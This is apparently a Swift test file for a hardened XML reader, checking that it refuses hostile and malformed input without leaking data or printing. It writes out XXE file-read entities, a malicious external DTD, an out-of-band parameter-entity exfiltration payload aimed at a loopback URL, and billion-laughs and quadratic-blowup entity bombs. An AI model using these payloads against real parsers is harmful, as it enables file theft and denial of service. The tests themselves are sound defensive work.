import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
@testable import BastionXML

/// Each hostile or broken input is refused with a typed error, nothing is
/// expanded, read or fetched, and libxml2 prints nothing.
@Suite struct HostileInputTests {
    /// Parses `xml` expecting an error; returns it.
    private func refusal(_ xml: String, options: XMLReader.Options = .init()) -> XMLError? {
        #expect(throws: XMLError.self) { try XMLReader(options: options).parse(xml) }
    }

    @Test func xxeReadingALocalFileIsRefused() throws {
        let directory = try Support.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let (path, secret) = try Support.secretFile(in: directory)
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE r [<!ENTITY xxe SYSTEM "file://\(path)">]>
            <r>&xxe;</r>
            """
        let error = try #require(refusal(xml))
        #expect(error.kind == .entityDeclaration)
        #expect(error.message.contains("xxe"))
        #expect(error.line == 2)
        #expect(!error.description.contains(secret))
        // The same through the bytes path and through schema validation's reader.
        let fromBytes = #expect(throws: XMLError.self) { try XMLReader().parse(bytes: Array(xml.utf8)) }
        #expect(fromBytes?.kind == .entityDeclaration)
        let schema = try XMLSchema(contentsOfFile: Support.fixture("schema/order.xsd").path)
        let viaSchema = #expect(throws: XMLError.self) { try schema.validate(xml) }
        #expect(viaSchema?.kind == .entityDeclaration)
    }

    @Test func externalDTDIsRefusedWithoutLoading() throws {
        let directory = try Support.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let (path, secret) = try Support.secretFile(in: directory)
        // A DTD that would pull the secret into the document if it were loaded.
        let dtd = directory.appendingPathComponent("evil.dtd")
        try "<!ENTITY stolen SYSTEM \"file://\(path)\">".write(to: dtd, atomically: true, encoding: .utf8)
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE r SYSTEM "file://\(dtd.path)">
            <r>&stolen;</r>
            """
        let error = try #require(refusal(xml))
        #expect(error.kind == .externalDTD)
        #expect(error.message.contains("evil.dtd"))
        #expect(!error.description.contains(secret))

        let publicID = refusal("<!DOCTYPE r PUBLIC \"-//Evil//DTD//EN\" \"file://\(dtd.path)\"><r/>")
        #expect(publicID?.kind == .externalDTD)
    }

    @Test func parameterEntityXXEIsRefused() throws {
        let directory = try Support.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let (path, secret) = try Support.secretFile(in: directory)
        // The classic out-of-band exfiltration: read a file into %file; and
        // send it out in a URL of another parameter entity.
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE r [
              <!ENTITY % file SYSTEM "file://\(path)">
              <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>">
              %eval;
              %exfil;
            ]>
            <r/>
            """
        let error = try #require(refusal(xml))
        #expect(error.kind == .entityDeclaration)
        #expect(error.message.contains("parameter entity \"%file\""))
        #expect(error.line == 3)
        #expect(!error.description.contains(secret))
    }

    @Test func billionLaughsIsRefusedAtTheFirstDeclaration() throws {
        var declarations = "<!ENTITY lol \"lol\">\n"
        declarations += "<!ENTITY lol1 \"" + String(repeating: "&lol;", count: 10) + "\">\n"
        for level in 2...9 {
            declarations += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n\(declarations)]>\n<lolz>&lol9;</lolz>"
        // Refused at the first declaration, before anything could be expanded.
        let error = refusal(xml)
        #expect(error?.kind == .entityDeclaration)
        #expect(error?.message.contains("\"lol\"") == true)
        #expect(error?.line == 3)
    }

    @Test func quadraticBlowupIsRefused() throws {
        let big = String(repeating: "a", count: 50_000)
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY a \"\(big)\">]>\n<r>"
            + String(repeating: "&a;", count: 20_000) + "</r>"
        let error = try #require(refusal(xml))
        #expect(error.kind == .entityDeclaration)
        #expect(error.line == 2)
    }

    @Test func networkDTDIsRefusedWithoutConnecting() throws {
        let trap = try LoopbackTrap()
        let documents = [
            "<!DOCTYPE r SYSTEM \"http://127.0.0.1:\(trap.port)/x.dtd\"><r/>",
            "<!DOCTYPE r PUBLIC \"-//X//DTD X//EN\" \"http://127.0.0.1:\(trap.port)/x.dtd\"><r/>",
            "<!DOCTYPE r SYSTEM \"http://127.0.0.1:1/x.dtd\"><r/>",
            "<!DOCTYPE r [<!ENTITY % remote SYSTEM \"http://127.0.0.1:\(trap.port)/p.dtd\"> %remote;]><r/>",
        ]
        for xml in documents {
            let error = refusal(xml)
            #expect(error?.kind == .externalDTD || error?.kind == .entityDeclaration, "\(xml)")
        }
        #expect(!trap.connectionAttempted, "something connected to the loopback listener")
    }

    @Test func entityDeclarationsAreRefusedEvenWhenUnused() throws {
        let error = refusal("<!DOCTYPE r [<!ENTITY harmless \"text\">]><r/>")
        #expect(error?.kind == .entityDeclaration)
        let unparsed = refusal("<!DOCTYPE r [<!NOTATION n SYSTEM \"x\"><!ENTITY u SYSTEM \"x\" NDATA n>]><r/>")
        #expect(unparsed?.kind == .entityDeclaration)
    }

    @Test func dtdNamespaceDefaultIsRefused() throws {
        let error = refusal("<!DOCTYPE r [<!ATTLIST r xmlns CDATA \"urn:sneaky\">]><r/>")
        #expect(error?.kind == .unsupportedDTD)
    }

    @Test func documentOverTheSizeLimitIsRefused() throws {
        let small = XMLReader.Options(maxDocumentSize: 100)
        let atLimit = "<a>" + String(repeating: "x", count: 100 - 7) + "</a>"
        #expect(atLimit.utf8.count == 100)
        _ = try XMLReader(options: small).parse(atLimit)
        let error = refusal("<a>" + String(repeating: "x", count: 94) + "</a>", options: small)
        #expect(error?.kind == .documentTooLarge)
        #expect(error?.message.contains("101 bytes") == true)

        // The default limit is 10 MiB.
        let overDefault = [UInt8]("<a>".utf8) + [UInt8](repeating: 0x78, count: 10 * 1024 * 1024) + [UInt8]("</a>".utf8)
        let defaultError = #expect(throws: XMLError.self) { try XMLReader().parse(bytes: overDefault) }
        #expect(defaultError?.kind == .documentTooLarge)
    }

    private func nested(_ depth: Int) -> String {
        String(repeating: "<e>", count: depth) + String(repeating: "</e>", count: depth)
    }

    @Test func documentDeeperThanTheLimitIsRefused() throws {
        _ = try XMLReader().parse(nested(256))
        let error = try #require(refusal(nested(257)))
        #expect(error.kind == .tooDeep)
        #expect(error.message.contains("256"))
        #expect(error.line == 1)

        let shallow = XMLReader.Options(maxDepth: 10)
        _ = try XMLReader(options: shallow).parse(nested(10))
        #expect(refusal(nested(11), options: shallow)?.kind == .tooDeep)

        // Above libxml2's own limit of 256 when configured so.
        let deep = XMLReader.Options(maxDepth: 1000)
        _ = try XMLReader(options: deep).parse(nested(600))
        #expect(refusal(nested(1001), options: deep)?.kind == .tooDeep)
    }

    @Test func malformedXMLNamesLineAndColumn() throws {
        let error = try #require(refusal("<a>\n  <b>text</c>\n</a>"))
        #expect(error.kind == .malformed)
        #expect(error.line == 2)
        #expect(error.column == 14)
        #expect(error.message == "Opening and ending tag mismatch: b line 2 and c")
        #expect(error.description == "XML error (malformed) at line 2, column 14: Opening and ending tag mismatch: b line 2 and c")

        let unclosedAttribute = try #require(refusal("<a>\n<b x=\"1></b>\n</a>"))
        #expect(unclosedAttribute.kind == .malformed)
        #expect(unclosedAttribute.line != nil)

        let undeclaredPrefix = try #require(refusal("<r>\n  <x:a/>\n</r>"))
        #expect(undeclaredPrefix.kind == .malformed)
        #expect(undeclaredPrefix.line == 2)
        #expect(undeclaredPrefix.message.contains("Namespace prefix x"))

        let empty = refusal("")
        #expect(empty?.kind == .malformed)
        let trailing = refusal("<a/><b/>")
        #expect(trailing?.kind == .malformed)
    }

    @Test func invalidUTF8IsRefused() throws {
        let bytes: [UInt8] = Array("<a>\nok ".utf8) + [0xFF, 0xFE, 0xC3] + Array("</a>".utf8)
        let error = #expect(throws: XMLError.self) { try XMLReader().parse(bytes: bytes) }
        #expect(error?.kind == .malformed)
        #expect(error?.line == 2)
        #expect(error?.message.contains("UTF-8") == true)
        // Truncated multi-byte sequence at the end of a name.
        let truncated: [UInt8] = Array("<a".utf8) + [0xE2, 0x82] + Array("/>".utf8)
        #expect(throws: XMLError.self) { try XMLReader().parse(bytes: truncated) }
    }

    /// libxml2 must not print: its messages go to the parse's own handler.
    @Test func nothingIsPrintedToStandardError() throws {
        let directory = try Support.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let capture = directory.appendingPathComponent("stderr.txt")
        #expect(FileManager.default.createFile(atPath: capture.path, contents: nil))
        let marker = "zzqprobe\(UInt32.random(in: 0..<UInt32.max))"
        fflush(nil)
        let saved = dup(2)
        let file = open(capture.path, O_WRONLY)
        dup2(file, 2)
        _ = try? XMLReader().parse("<\(marker)>\n<b></c></\(marker)>")
        _ = try? XMLReader().parse(bytes: Array("<\(marker)>".utf8) + [0xFF] + Array("</\(marker)>".utf8))
        _ = try? XMLReader().parse(bytes: Array("<?xml version='1.0' encoding='no-such-\(marker)'?><a/>".utf8))
        _ = try? XMLReader().parse("<!DOCTYPE \(marker) [<!ENTITY \(marker) 'x'>]><\(marker)/>")
        fflush(nil)
        dup2(saved, 2)
        close(saved)
        close(file)
        let printed = try String(contentsOf: capture, encoding: .utf8)
        #expect(!printed.contains(marker), "libxml2 printed: \(printed)")
    }

    @Test func unknownEncodingIsAnError() throws {
        let error = #expect(throws: XMLError.self) {
            try XMLReader().parse(bytes: Array("<?xml version='1.0' encoding='no-such-encoding'?><a/>".utf8))
        }
        #expect(error?.kind == .malformed)
    }
}
